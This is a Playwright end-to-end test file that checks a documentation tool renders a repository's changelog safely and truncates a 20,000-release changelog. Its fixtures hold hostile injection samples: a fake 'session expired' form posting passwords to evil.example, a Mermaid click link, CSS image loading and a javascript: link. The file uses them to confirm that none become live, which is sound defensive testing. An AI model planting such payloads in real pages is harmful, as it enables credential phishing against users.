import { expect, request, test, type APIRequestContext, type Page } from '@playwright/test';
import { pushToEmulator } from '@chronicle/github-emulator';
import { ADMIN_ROUTES, DOCS_ROUTES, type Project, type ProjectStatus, type PublicDocumentView } from '@chronicle/contracts';
import { JOB_WAIT_MS, url } from '../support/chronicle.js';
import { emulatorUrl } from '../support/dashboard.js';

// Issue 31: repository content is data. A changelog kept by hand is quoted in Chronicle's
// CHANGELOG document; what it holds must not become links, forms or requests of Chronicle's page
// (L3), and a changelog of 20,000 releases must not freeze the page (L4).

const ALLOWED_IMAGE_HOST = 'https://avatars.githubusercontent.com/u/583231?v=4';

// Mermaid with a click link, HTML labels holding a form, and themeCSS loading an image of a host
// the Content-Security-Policy allows; raw HTML, a javascript: link and an image beside it.
const HOSTILE_MERMAID = [
  `%%{init: {'themeCSS': '.node rect { fill: url(${ALLOWED_IMAGE_HOST}) }', 'flowchart': {'htmlLabels': true}}}%%`,
  'flowchart TD',
  '  A["<form action=\'https://evil.example/steal\'><b>SESSION EXPIRED – sign in again</b><input name=\'password\' placeholder=\'Password\'></form>"]',
  '  click A href "https://evil.example/login" _blank',
].join('\n');

const HOSTILE_CHANGELOG = [
  '# Changelog',
  '',
  '## [1.0.0] - 2024-01-01',
  '',
  '### Added',
  '',
  '- The greeter.',
  '',
  '```mermaid',
  HOSTILE_MERMAID,
  '```',
  '',
  '<form action="https://evil.example/steal"><input name="user" placeholder="User name"><button>Sign in again</button></form>',
  '',
  "- [Read the notes](javascript:alert('changelog')) and ![the logo](https://avatars.githubusercontent.com/u/1).",
  '',
].join('\n');

function longChangelog(releases: number): string {
  const lines = Array.from({ length: releases }, (_, index) => {
    const patch = releases - index;
    return `## [0.${Math.floor(patch / 100)}.${patch % 100}] - 2024-01-01\n\n### Fixed\n\n- Handle the edge case number ${patch} of the greeter.\n`;
  });
  return `# Changelog\n\nAll notable changes of the greeter.\n\n${lines.join('\n')}`;
}

let admin: APIRequestContext;
const slugs: Record<'hostile' | 'long', string> = { hostile: '', long: '' };

/** Pushes a changelog, adds the repository as a project and waits for its first analysis. */
async function addWithChangelog(repo: string, changelog: string): Promise<string> {
  const pushed = await pushToEmulator(emulatorUrl(), {
    owner: 'octocat',
    repo,
    branch: 'main',
    commits: [{ message: 'docs: the changelog as we keep it', files: { 'CHANGELOG.md': changelog, 'src/greeter.js': 'export const greet = (name) => `Hello, ${name}`;\n' } }],
  });
  expect(pushed.head).toMatch(/^[0-9a-f]{40}$/);
  const added = await admin.post(ADMIN_ROUTES.projects, { data: { repositoryUrl: `${emulatorUrl()}/octocat/${repo}` } });
  expect(added.status(), await added.text()).toBe(201);
  const project = (await added.json()) as Project;
  await expect
    .poll(async () => ((await (await admin.get(ADMIN_ROUTES.status(project.id))).json()) as ProjectStatus).status, { timeout: JOB_WAIT_MS, intervals: [2_000] })
    .toMatch(/^(success|error)$/);
  const status = (await (await admin.get(ADMIN_ROUTES.status(project.id))).json()) as ProjectStatus;
  expect(status.analysis?.errorMessage ?? null).toBeNull();
  const changelogDocument = await admin.get(DOCS_ROUTES.document(project.publicSlug, 'changelog'));
  expect(changelogDocument.status(), 'the changelog document is written').toBe(200);
  return project.publicSlug;
}

/** Every request the page makes to another origin than Chronicle's. */
function foreignRequests(page: Page): string[] {
  const own = new URL(url('/')).origin;
  const foreign: string[] = [];
  page.on('request', (sent) => {
    const target = new URL(sent.url());
    if (/^https?:$/.test(target.protocol) && target.origin !== own) foreign.push(sent.url());
  });
  return foreign;
}

async function expectNothingLive(page: Page): Promise<void> {
  const panel = page.getByRole('tabpanel');
  await expect(panel.locator('form')).toHaveCount(0);
  await expect(panel.locator('input, button, textarea, select')).toHaveCount(0);
  await expect(page.locator('a[href*="evil.example"], a[href^="javascript:"], form, foreignObject, svg a')).toHaveCount(0);
  await expect(page.locator('img[src*="avatars.githubusercontent.com/u/1"]')).toHaveCount(0);
}

test.beforeAll(async () => {
  test.setTimeout(900_000);
  admin = await request.newContext({ baseURL: process.env.E2E_BASE_URL });
  const signIn = await admin.get('/api/auth/github');
  expect(signIn.url()).toBe(url('/dashboard'));
  slugs.hostile = await addWithChangelog('hostile-changelog', HOSTILE_CHANGELOG);
  slugs.long = await addWithChangelog('long-changelog', longChangelog(20_000));
});

test.afterAll(async () => {
  // Other tests sign in as octocat too and expect a fresh account: leave no project and no account.
  for (const project of (await (await admin.get(ADMIN_ROUTES.projects)).json()) as Project[]) {
    expect((await admin.delete(ADMIN_ROUTES.project(project.id))).status()).toBe(204);
  }
  expect((await admin.delete('/api/account')).status()).toBe(200);
  await admin.dispose();
});

test("a changelog's Mermaid, HTML and links are shown as text: no link, form, input or foreign request", async ({ page }) => {
  const foreign = foreignRequests(page);
  await page.goto(url(`/${slugs.hostile}/docs/changelog`));
  const panel = page.getByRole('tabpanel');
  // The repository's words are there, as text.
  await expect(panel.getByText('SESSION EXPIRED – sign in again', { exact: false }).first()).toBeVisible({ timeout: 60_000 });
  await expect(panel.getByText('<form action="https://evil.example/steal">', { exact: false })).toBeVisible();
  await expect(panel.getByText('Read the notes')).toBeVisible();
  await page.waitForLoadState('networkidle');
  await expectNothingLive(page);
  expect(foreign).toEqual([]);
});

test('a Mermaid block carrying links, HTML labels and styles is never drawn, whatever the document', async ({ page }) => {
  // Defence in depth: a document whose diagram came from anywhere (a package agent, a stored row).
  const answer = await admin.get(DOCS_ROUTES.document(slugs.hostile, 'changelog'));
  const view = (await answer.json()) as PublicDocumentView;
  const content = `# Changelog\n\n\`\`\`mermaid\n${HOSTILE_MERMAID}\n\`\`\`\n\n\`\`\`mermaid\nflowchart LR\n  A["SESSION EXPIRED"] --> B\n  style A fill:url(${ALLOWED_IMAGE_HOST})\n\`\`\`\n`;
  await page.route(`**${DOCS_ROUTES.document(slugs.hostile, 'changelog')}`, (route) =>
    route.fulfill({ contentType: 'application/json', body: JSON.stringify({ ...view, document: { ...view.document, content } }) }),
  );
  const foreign = foreignRequests(page);
  await page.goto(url(`/${slugs.hostile}/docs/changelog`));
  const refused = page.getByText('This diagram holds links, HTML or styles this page does not draw; its source follows.');
  await expect(refused).toHaveCount(2, { timeout: 60_000 });
  await expect(page.getByRole('tabpanel').locator('svg')).toHaveCount(0);
  await page.waitForLoadState('networkidle');
  await expectNothingLive(page);
  expect(foreign).toEqual([]);
});

test('a changelog of 20,000 releases: the page shows its beginning, says so, and links the whole Markdown', async ({ page }) => {
  const whole = await admin.get(DOCS_ROUTES.markdown(slugs.long, 'changelog'));
  expect(whole.status()).toBe(200);
  expect(whole.headers()['content-type']).toBe('text/markdown; charset=utf-8');
  const wholeBytes = (await whole.body()).length;
  expect(wholeBytes).toBeGreaterThan(1_000_000);

  await page.goto(url(`/${slugs.long}/docs/changelog`));
  await expect(page.getByText('This document is shown in part')).toBeVisible({ timeout: 120_000 });
  await expect(page.getByText(`It is ${(wholeBytes / 1_000_000).toFixed(1)} MB of Markdown; this page shows its beginning, up to 200 KB.`)).toBeVisible();
  const link = page.getByRole('link', { name: 'Read the whole CHANGELOG.md as Markdown' });
  await expect(link).toHaveAttribute('href', DOCS_ROUTES.markdown(slugs.long, 'changelog'));
  await expect(page.getByRole('tabpanel').getByRole('heading', { level: 2 }).first()).toBeVisible({ timeout: 120_000 });
  // The page was 100,184 elements with the whole document; its part is bounded.
  const elements = await page.evaluate(() => document.getElementsByTagName('*').length);
  expect(elements).toBeLessThan(25_000);

  const followed = await page.request.get(url(DOCS_ROUTES.markdown(slugs.long, 'changelog')));
  expect((await followed.body()).length).toBe(wholeBytes);
});
